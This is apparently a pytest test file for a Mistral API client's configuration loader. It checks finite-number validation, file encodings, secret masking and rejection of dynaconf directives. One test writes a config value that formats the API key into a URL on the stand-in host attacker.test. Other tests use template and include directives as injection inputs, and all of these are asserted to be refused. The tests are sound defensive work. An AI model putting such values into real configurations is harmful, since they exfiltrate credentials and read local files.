"""Configuration input that is code, numbers that are not finite, files
in the wrong encoding, secrets in configuration errors, variables that match no setting."""

from __future__ import annotations

import json
import logging
from pathlib import Path

import pytest

import integrations_mistral as im
from integrations_mistral import ConfigurationError, load_settings
from integrations_mistral.cli import main as cli_main

KEY = "sk-live-0123456789abcdefXYZ"


@pytest.mark.parametrize(
    "name",
    [
        "MISTRAL_CLIENT__CONNECT_TIMEOUT_SECS",
        "MISTRAL_CLIENT__KEEPALIVE_SECS",
        "MISTRAL_CLIENT__STREAM_TIMEOUT_SECS",
        "MISTRAL_RETRY__MAX_ELAPSED_SECS",
        "MISTRAL_RATE_LIMIT__MAX_WAIT_SECS",
        "MISTRAL_API_KEY_TTL_SECS",
    ],
)
@pytest.mark.parametrize("value", ["inf", "-inf", "nan", "Infinity"])
def test_numbers_must_be_finite_from_the_environment(name: str, value: str) -> None:
    with pytest.raises(ConfigurationError, match=f"from env {name}"):
        load_settings(environ={name: value})


def test_numbers_must_be_finite_in_files(tmp_path: Path) -> None:
    config = tmp_path / "m.toml"
    config.write_text("[default.client]\nconnect_timeout_secs = inf\n")
    with pytest.raises(ConfigurationError, match="client.connect_timeout_secs: .*finite"):
        load_settings(config_file=config)


@pytest.mark.parametrize(
    ("content", "advice"),
    [
        ("[default.client]\ntimeout_secs = 5\n".encode("utf-16"), "is UTF-16"),
        ("[default.client]\nuser_agent = 'café'\n".encode("latin-1"), "is not UTF-8"),
        (b"\xef\xbb\xbf[default.client]\ntimeout_secs = 5\n", "byte-order mark"),
        (b"[default]\nx = " + b"[" * 50_000 + b"]" * 50_000 + b"\n", "nested too deeply"),
    ],
    ids=["utf-16", "latin-1", "bom", "deep"],
)
@pytest.mark.parametrize("kind", ["config", "credentials"])
def test_files_in_other_encodings_name_the_file_and_the_fix(
    tmp_path: Path, content: bytes, advice: str, kind: str
) -> None:
    path = tmp_path / "file.toml"
    path.write_bytes(content)
    argument = {"config_file": path} if kind == "config" else {"credentials_file": path}
    with pytest.raises(ConfigurationError, match=advice) as caught:
        load_settings(**argument)  # type: ignore[arg-type]
    assert f"{kind} file {path}" in str(caught.value)
    assert caught.value.__context__ is None or isinstance(caught.value.__context__, im.MistralError)


def test_the_exfiltration_attempt_is_refused_not_evaluated(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MISTRAL_API_KEY", KEY)
    config = tmp_path / "m.toml"
    config.write_text(
        '[default.client]\nbase_url = "@format https://attacker.test/{env[MISTRAL_API_KEY]}"\n'
    )
    with pytest.raises(
        ConfigurationError, match="client.base_url: a value starting with '@'"
    ) as caught:
        im.MistralClient(config_file=config)
    assert KEY not in str(caught.value)
    assert str(config) in str(caught.value)


@pytest.mark.parametrize(
    "toml",
    [
        '[default.retry]\nmax_attempts = "@int 5"\n',
        '[default.logging]\nlevel = "@jinja {{ this.X }}"\n',
        '[default.client]\nuser_agent = "@format {env[HOME]}"\n',
        '[default]\ndynaconf_include = ["/etc/other.toml"]\n',
        "[default.client]\ndynaconf_merge = true\n",
        '[prod.retry]\nretryable_status_codes = ["@int 500"]\n',
    ],
)
def test_no_dynaconf_directive_is_taken(tmp_path: Path, toml: str) -> None:
    config = tmp_path / "m.toml"
    config.write_text(toml)
    with pytest.raises(ConfigurationError, match="plain data"):
        load_settings("prod", config_file=config)


def test_a_short_key_is_masked_in_configuration_errors() -> None:
    environ = {"MISTRAL_API_KEY": "k-short1", "MISTRAL_LOG_LEVEL": "k-short1"}
    with pytest.raises(ConfigurationError) as caught:
        load_settings(environ=environ)
    assert "k-short1" not in str(caught.value).lower()
    with pytest.raises(ConfigurationError) as caught:
        load_settings(api_key="ab cd")
    assert "ab cd" not in str(caught.value)


def test_url_passwords_are_masked_in_reprs_and_config_show(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("MISTRAL_RATE_LIMIT__BACKEND", "redis")
    monkeypatch.setenv("MISTRAL_RATE_LIMIT__REDIS_URL", "redis://:hunter2-pw@cache.test:6379/0")
    settings = load_settings()
    for text in (repr(settings), repr(settings.rate_limit), settings.model_dump_json()):
        assert "hunter2" not in text
    assert cli_main(["config", "show"]) == 0
    assert cli_main(["config", "show", "--format", "json"]) == 0
    assert "hunter2" not in capsys.readouterr().out


def test_variables_matching_no_setting_are_named_once_with_a_suggestion(
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
) -> None:
    caplog.set_level(logging.WARNING, logger="integrations_mistral")
    monkeypatch.setenv("MISTRAL_RETRY_MAX_ATTEMPTS", "5")
    monkeypatch.setenv("MISTRAL_OPENAPI_SPEC", "/spec.yaml")  # the project's own, not a setting
    first = load_settings()
    load_settings()
    assert first.retry.max_attempts == 3
    assert first.ignored_variables == [
        "MISTRAL_RETRY_MAX_ATTEMPTS (did you mean MISTRAL_RETRY__MAX_ATTEMPTS?)"
    ]
    warnings = [r.getMessage() for r in caplog.records if "matches no setting" in r.getMessage()]
    assert len(warnings) == 1 and "MISTRAL_RETRY__MAX_ATTEMPTS" in warnings[0]
    assert cli_main(["config", "show", "--format", "json"]) == 0
    payload = json.loads(capsys.readouterr().out)
    assert payload["ignored_variables"] == first.ignored_variables


def test_unknown_keys_suggest_the_setting(tmp_path: Path) -> None:
    config = tmp_path / "m.toml"
    config.write_text("[default.retry]\nmax_attempt = 3\n")
    with pytest.raises(
        ConfigurationError,
        match=r"retry.max_attempt: unknown setting \(did you mean max_attempts\?\)",
    ):
        load_settings(config_file=config)
    with pytest.raises(ConfigurationError, match=r"did you mean retry\?"):
        load_settings(environ={"MISTRAL_RETYR__MAX_ATTEMPTS": "3"})
    with pytest.raises(ConfigurationError, match=r"did you mean max_retries\?"):
        load_settings(max_retry=3)
